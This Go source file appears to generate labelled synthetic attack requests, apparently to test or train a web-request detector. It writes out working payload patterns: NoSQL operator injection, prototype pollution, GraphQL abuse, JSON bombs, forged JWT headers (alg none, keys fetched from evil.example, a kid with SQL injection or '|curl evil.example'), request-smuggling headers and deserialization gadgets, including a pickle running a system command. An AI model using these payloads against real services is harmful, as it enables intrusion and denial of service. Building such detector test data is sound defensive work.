package center

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
)

// wholeAttacks are the families whose attack is the request itself.
func wholeAttacks() []*family {
	whole := func(class, name string, make func(*maker, *Sample)) *family {
		return &family{class: class, name: class + "-" + name, make: make}
	}
	return []*family{
		whole("nosqli", "bracket", bracket), whole("nosqli", "field", nosqlField), whole("prototype", "bracket", prototypeBracket), whole("prototype", "body", prototypeBody),
		whole("graphql", "deep", graphDeep), whole("graphql", "aliases", graphAliases), whole("graphql", "batch", graphBatch), whole("graphql", "schema", graphSchema),
		whole("jsonbomb", "deep", jsonDeep), whole("jsonbomb", "wide", jsonWide), whole("jsonbomb", "number", jsonNumber),
		whole("token", "none", tokenNone), whole("token", "header", tokenHeader),
		whole("oddity", "method", oddMethod), whole("oddity", "framing", oddFraming), whole("oddity", "bytes", oddBytes),
		whole("deserialization", "body", deserialBody),
		whole("urlcredential", "userinfo", userInfo),
	}
}

func (m *maker) done(s *Sample, place, value string) { s.Place, s.Value = place, value }

func (m *maker) probe(s *Sample, value string) {
	s.Method, s.Path, s.Headers, s.Place = "GET", value, m.headers(), "path"
}

func (m *maker) credential(s *Sample, value string) {
	s.Method, s.Headers, s.Place = "GET", m.headers(), "query"
	s.Path = "/" + m.word() + "/" + m.slot("n") + "?" + pick(m, []string{"page=2&", "", "id=" + m.slot("n") + "&"}) + value
}

// userInfo sends a link with a password in it.
func userInfo(m *maker, s *Sample) {
	link := pick(m, []string{"https", "ftp", "http"}) + "://" + m.word() + ":" + m.slot("secret") + "@" + m.word() + ".example.org/x"
	s.Method, s.Headers, s.Path = "GET", m.headers(), "/fetch?url="+url.QueryEscape(link)
	m.done(s, "query", link)
}

func (m *maker) xmlBody(s *Sample, value string) {
	s.Method, s.Path, s.Headers, s.Place = "POST", "/"+m.word()+"/import", m.headers(), "xml"
	setHeader(s, "content-type", pick(m, []string{"application/xml", "text/xml", "application/soap+xml", "image/svg+xml"}))
	s.Body = []byte(value)
}

func (m *maker) json(s *Sample, place, body string) {
	s.Method, s.Path, s.Headers, s.Body = "POST", "/v1/"+m.word(), m.headers(), []byte(body)
	setHeader(s, "content-type", "application/json")
	m.done(s, place, body)
}

func bracket(m *maker, s *Sample) {
	operator := pick(m, strings.Fields("$ne $gt $gte $lt $regex $exists $nin $where $in $not $eq $or"))
	value := fmt.Sprintf("%s[%s]=%s", pick(m, []string{"username", "password", "user[name]", "filter[id]", "q"}), operator, pick(m, []string{"", "1", ".*", "true", "^a"}))
	s.Headers = m.headers()
	if m.IntN(2) == 0 {
		value = strings.NewReplacer("[", "%5B", "]", "%5D", "$", "%24").Replace(value)
	}
	if m.IntN(2) == 0 {
		s.Method, s.Path, s.Body = "POST", "/login", []byte(value+"&submit=1")
		setHeader(s, "content-type", "application/x-www-form-urlencoded")
		m.done(s, "form", value)
		return
	}
	s.Method, s.Path = "GET", "/"+m.word()+"?page=1&"+value
	m.done(s, "query", value)
}

func nosqlField(m *maker, s *Sample) {
	operator := pick(m, []string{`{"$ne":null}`, `{"$gt":""}`, `{"$regex":".*"}`, `{"$exists":true}`, `{"$in":["a","b"]}`, `{"$where":"1==1"}`, `{"$not":{"$type":1}}`, `{"\u0024ne":1}`, `{"$gte":0}`})
	m.json(s, "json", pick(m, []string{
		`{"username":"admin","password":` + operator + `}`, `{"filter":{"owner":` + operator + `},"limit":5}`,
		`{"user":` + operator + `,"pass":` + operator + `}`, `{"query":{"$or":[{"a":1},{"b":` + operator + `}]}}`,
	}))
}

func prototypeBracket(m *maker, s *Sample) {
	value := pick(m, []string{"__proto__[admin]=1", "constructor[prototype][x]=1", "__proto__.polluted=yes", "a[__proto__][b]=c", "constructor.prototype.isAdmin=true", "__proto__%5Bx%5D=1"})
	s.Method, s.Path, s.Headers = "GET", "/"+m.word()+"?"+value, m.headers()
	m.done(s, "query", value)
}

func prototypeBody(m *maker, s *Sample) {
	m.json(s, "json", pick(m, []string{
		`{"name":"x","__proto__":{"admin":true}}`, `{"a":{"constructor":{"prototype":{"b":1}}}}`, `{"\u005f_proto__":{"x":1}}`,
		`[{"op":"add","path":"/__proto__/x","value":1}]`, `{"settings":{"__proto__":{"toString":"y"}}}`, `{"path":"constructor.prototype.z","value":1}`,
	}))
}

func (m *maker) graph(s *Sample, document string) {
	m.json(s, "graphql", `{"query":`+quote(document)+`}`)
	s.Path = "/graphql"
}

func graphDeep(m *maker, s *Sample) {
	n := 20 + m.IntN(60)
	m.graph(s, "query{user"+strings.Repeat("{friends{author", n)+"{id}"+strings.Repeat("}}", n)+"}")
}

func graphAliases(m *maker, s *Sample) {
	var b strings.Builder
	for i := range 40 + m.IntN(200) {
		fmt.Fprintf(&b, " a%d: login(pin: \"%04d\") { token }", i, i)
	}
	m.graph(s, "mutation {"+b.String()+" }")
}

func graphBatch(m *maker, s *Sample) {
	one := `{"query":"query { me { email } }"}`
	m.json(s, "graphql", "["+strings.Repeat(one+",", 30+m.IntN(100))+one+"]")
	s.Path = "/graphql"
}

func graphSchema(m *maker, s *Sample) {
	m.graph(s, pick(m, []string{
		"{__schema{types{name fields{name type{name}}}}}", "query IntrospectionQuery { __schema { queryType { name } } }",
		`{ __type(name: "User") { fields { name } } }`, "query{__schema{directives{name args{name}}}}",
	}))
}

func jsonDeep(m *maker, s *Sample) {
	n := 150 + m.IntN(2000)
	if m.IntN(2) == 0 {
		m.json(s, "json", strings.Repeat("[", n)+strings.Repeat("]", n))
		return
	}
	m.json(s, "json", strings.Repeat(`{"a":`, n)+"1"+strings.Repeat("}", n))
}

func jsonWide(m *maker, s *Sample) {
	var b strings.Builder
	for i := range 20000 + m.IntN(5000) {
		fmt.Fprintf(&b, `"%s%d":0,`, m.letters(2), i)
	}
	m.json(s, "json", "{"+b.String()+`"z":1}`)
}

func jsonNumber(m *maker, s *Sample) {
	m.json(s, "json", pick(m, []string{`{"amount":1e99999}`, `{"qty":` + strings.Repeat("9", 400+m.IntN(3000)) + `}`, `{"x":-1E+400000000}`, `{"x":0.` + strings.Repeat("3", 2500) + `}`}))
}

func (m *maker) bearer(s *Sample, header, payload, signature string) {
	part := base64.RawURLEncoding.EncodeToString
	token := part([]byte(header)) + "." + part([]byte(payload)) + "." + signature
	m.request(s, pick(m, m.book.requests), -1, "")
	setHeader(s, "authorization", "Bearer "+token)
	m.done(s, "header", header)
}

func tokenNone(m *maker, s *Sample) {
	alg := pick(m, strings.Fields("none None NONE nOnE"))
	m.bearer(s, `{"alg":"`+alg+`","typ":"JWT"}`, `{"sub":"admin"}`, "")
}

func tokenHeader(m *maker, s *Sample) {
	m.bearer(s, pick(m, []string{
		`{"alg":"RS256","jku":"https://evil.example/jwks.json"}`, `{"alg":"RS256","jwk":{"kty":"RSA","n":"AQAB","e":"AQAB"}}`,
		`{"alg":"HS256","kid":"../../../dev/null"}`, `{"alg":"HS256","kid":"x' UNION SELECT 'k'-- "}`, `{"alg":"ES256","crit":["x-evil"],"x-evil":1}`,
		`{"alg":"RS256","x5u":"http://evil.example/c.pem"}`, `{"typ":"JWT","alg":"HS256","kid":"|curl evil.example"}`,
	}), `{"sub":"1","role":"admin"}`, m.letters(43))
}

func oddMethod(m *maker, s *Sample) {
	m.request(s, pick(m, m.book.requests), -1, "")
	s.Method, s.Body = pick(m, strings.Fields("TRACE TRACK DEBUG FOO CONNECT JEFF PROPFIND GETS")), nil
	m.done(s, "other", s.Method)
}

func oddFraming(m *maker, s *Sample) {
	m.request(s, pick(m, m.book.requests), -1, "")
	pairs := pick(m, [][][2]string{
		{{"content-length", "5"}, {"transfer-encoding", "chunked"}}, {{"content-length", "5"}, {"content-length", "50"}},
		{{"transfer-encoding", "xchunked"}}, {{"transfer-encoding", "chunked, identity"}, {"content-length", "4"}}, {{"content-length", "-1"}}, {{"content-length", "+12"}},
		{{"transfer-encoding", "chunked"}, {"transfer-encoding", "cow"}},
	})
	s.Headers = append(s.Headers, pairs...)
	m.done(s, "header", fmt.Sprint(pairs))
}

func oddBytes(m *maker, s *Sample) {
	m.request(s, pick(m, m.book.requests), -1, "")
	bytes := pick(m, []string{"\x00", "\x07\x08", "\x1b[31m", "%00", "%01%02", "%c0%80", "%ff%fe"})
	if strings.HasPrefix(bytes, "%") {
		s.Path = "/" + m.word() + "?x=" + m.word() + bytes
		m.done(s, "query", bytes)
		return
	}
	setHeader(s, "x-note", m.word()+bytes)
	m.done(s, "header", bytes)
}

func deserialBody(m *maker, s *Sample) {
	s.Method, s.Path, s.Headers = "POST", "/"+m.word()+"/invoke", m.headers()
	kind := pick(m, [][2]string{
		{"application/x-java-serialized-object", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07"}, {"application/octet-stream", "\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."},
		{"application/x-yaml", "!!javax.script.ScriptEngineManager [x]"}, {"application/json", `{"$type":"System.Diagnostics.Process, System","StartInfo":{}}`},
		{"application/json", `{"@type":"org.apache.xbean.propertyeditor.JndiConverter","AsText":"rmi://evil.example/x"}`}, {"text/plain", `O:4:"User":1:{s:5:"admin";b:1;}`},
		{"application/octet-stream", "\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"}, {"application/x-ruby-marshal", "\x04\x08o:\x15Gem::Requirement\x06:\x10@requirements"},
	})
	setHeader(s, "content-type", kind[0])
	s.Body = []byte(kind[1])
	m.done(s, "other", kind[1])
}
